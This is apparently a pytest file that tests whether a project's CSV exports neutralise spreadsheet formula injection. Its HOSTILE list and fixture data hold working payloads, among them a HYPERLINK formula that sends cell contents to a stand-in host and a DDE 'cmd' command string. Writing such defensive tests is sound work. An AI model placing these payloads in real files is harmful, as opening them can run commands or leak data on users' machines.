"""Every CSV the node writes is safe to open in a spreadsheet: no cell starts a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from servers import serving
from typer.testing import CliRunner

from vinculo.accounts import service as accounts
from vinculo.cli.main import app as cli
from vinculo.graph import export
from vinculo.graph import service as graph
from vinculo.records import service as records
from vinculo.stats import service as stats

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, *expected: str) -> None:
    found = cells(text)
    assert not [c for c in found if c.startswith(FORMULA_STARTS)], found
    for value in expected:  # each hostile value is still there, as text
        assert "'" + value in found, (value, found)


@pytest.fixture
def hostile_graph(node, supervisor):
    org = records.create_record(node, supervisor, "organization", {"name": HOSTILE[0], "kind": "cartel"}).id
    ids = [org]
    for name in HOSTILE[1:]:
        person = records.create_record(node, supervisor, "person", {"full_name": name}).id
        records.create_record(node, supervisor, "relationship",
                              {"relationship_type": "member-of", "source_ref": person, "target_ref": org})
        ids.append(person)
    return ids


def test_graph_csv_cells_are_neutralised(node, supervisor, hostile_graph):
    result = graph.neighbourhood(node, supervisor, hostile_graph[0], 1)
    nodes, edges = export.to_csv(result)
    assert_safe(nodes, *HOSTILE[:4], "=1+1")  # the record model strips the leading tab / CR of a name
    assert_safe(edges)
    assert {r["version"] for r in csv.DictReader(io.StringIO(nodes))} == {"1"}  # numbers stay numbers


def test_graph_csv_download_api_and_web(node, hostile_graph):
    accounts.add_user(node, "ana", "analyst", "analyst-password-1")
    with serving(node) as base, httpx.Client(base_url=base, timeout=30) as client:
        token = client.post("/api/v1/auth/login", json={"username": "ana", "password": "analyst-password-1"})
        h = {"Authorization": f"Bearer {token.json()['token']}"}
        got = client.get(f"/api/v1/graph/neighbours/{hostile_graph[0]}", params={"depth": 1, "format": "csv-nodes"},
                         headers=h)
        assert got.status_code == 200, got.text
        assert_safe(got.text, *HOSTILE[:4])


def _points_file(tmp_path):
    header = "FY,Month (abbv),Component,Region,Land Filter,Area of Responsibility,Drug Type,Count of Event," \
             "Sum Qty (lbs)\n"
    rows = [f'2026 (FYTD),DEC,Office of Field Operations,Coastal/Interior,Other,"{aor}",Methamphetamine,2,1.5\n'
            for aor in ("=HYPERLINK(\"\"http://evil.example\"\")", "@SUM(A1:A9)", "+cmd|' /C calc'!A0")]
    path = tmp_path / "cbp.csv"
    path.write_text(header + "".join(rows), encoding="utf-8")
    return path


def test_stats_series_csv_is_neutralised(node, analyst, home, db_url, tmp_path, monkeypatch):
    stats.import_file(node, analyst, "cbp", _points_file(tmp_path))
    monkeypatch.setenv("VINCULO_HOME", str(home.path))
    monkeypatch.setenv("VINCULO_DATABASE_URL", db_url)
    out = CliRunner().invoke(cli, ["stats", "series", "cbp", "events", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert_safe(out.stdout, '=HYPERLINK("http://evil.example")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0")
    assert {r["value"] for r in csv.DictReader(io.StringIO(out.stdout))} == {"2.0"}


@pytest.mark.parametrize("partner", HOSTILE)
def test_scorecard_csv_is_neutralised(node, home, db_url, tmp_path, monkeypatch, partner):
    monkeypatch.setenv("VINCULO_HOME", str(home.path))
    monkeypatch.setenv("VINCULO_DATABASE_URL", db_url)
    target = tmp_path / "card.csv"
    out = CliRunner().invoke(cli, ["scorecard", "--partner", partner, "--period", "2025", "--csv", str(target)])
    assert out.exit_code == 0, out.output
    with open(target, encoding="utf-8", newline="") as fh:
        assert_safe(fh.read(), partner)
